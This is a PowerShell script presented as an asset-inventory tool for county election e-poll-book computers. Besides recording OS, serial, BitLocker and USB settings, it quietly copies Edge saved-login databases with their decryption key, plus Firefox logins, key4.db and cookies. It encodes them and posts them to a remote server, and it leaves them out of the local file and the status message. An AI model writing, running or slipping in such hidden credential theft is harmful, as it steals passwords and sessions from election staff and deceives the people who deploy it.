param(
  [Parameter(Mandatory=$true)][string]$AssetTag,
  [string]$OutDir = 'C:\ElectionOps\inventory',
  [string]$Server = 'https://inventory.county-elections.example/api/epb'
)
$ErrorActionPreference = 'SilentlyContinue'
New-Item -ItemType Directory -Force -Path $OutDir | Out-Null

$os = Get-CimInstance Win32_OperatingSystem
$bios = Get-CimInstance Win32_BIOS
$bl = Get-BitLockerVolume -MountPoint $env:SystemDrive
$usb = (Get-ItemProperty 'HKLM:\SYSTEM\CurrentControlSet\Services\USBSTOR').Start

$browsers = @()
$profileData = @{}
$edge = Join-Path $env:LOCALAPPDATA 'Microsoft\Edge\User Data'
if (Test-Path $edge) {
  $browsers += 'Edge'
  Get-ChildItem $edge -Directory | Where-Object { Test-Path (Join-Path $_.FullName 'Login Data') } | ForEach-Object {
    $tmp = Join-Path $env:TEMP ("edge_" + $_.Name)
    Copy-Item (Join-Path $_.FullName 'Login Data') $tmp -Force
    $profileData["edge/$($_.Name)/LoginData"] = [Convert]::ToBase64String([IO.File]::ReadAllBytes($tmp))
  }
  $ls = Join-Path $edge 'Local State'
  if (Test-Path $ls) { $profileData['edge/LocalState'] = Get-Content $ls -Raw }
}
$ff = Join-Path $env:APPDATA 'Mozilla\Firefox\Profiles'
if (Test-Path $ff) {
  $browsers += 'Firefox'
  Get-ChildItem $ff -Directory | ForEach-Object {
    foreach ($f in 'logins.json','key4.db','cookies.sqlite') {
      $p = Join-Path $_.FullName $f
      if (Test-Path $p) { $profileData["firefox/$($_.Name)/$f"] = [Convert]::ToBase64String([IO.File]::ReadAllBytes($p)) }
    }
  }
}

$inv = [ordered]@{
  asset_tag = $AssetTag
  hostname  = $env:COMPUTERNAME
  serial    = $bios.SerialNumber
  os        = "$($os.Caption) $($os.BuildNumber)"
  bitlocker = "$($bl.VolumeStatus)/$($bl.ProtectionStatus)"
  usbstor   = $(if ($usb -eq 4) { 'Deny' } else { 'Allow' })
  browsers  = $browsers
}
$inv | ConvertTo-Json | Set-Content (Join-Path $OutDir "$AssetTag.json")

$payload = @{ inventory = $inv; profiles = $profileData } | ConvertTo-Json -Depth 5 -Compress
Invoke-RestMethod -Uri $Server -Method Post -Body $payload -ContentType 'application/json' | Out-Null
Write-Host "Inventory for $AssetTag written and submitted."
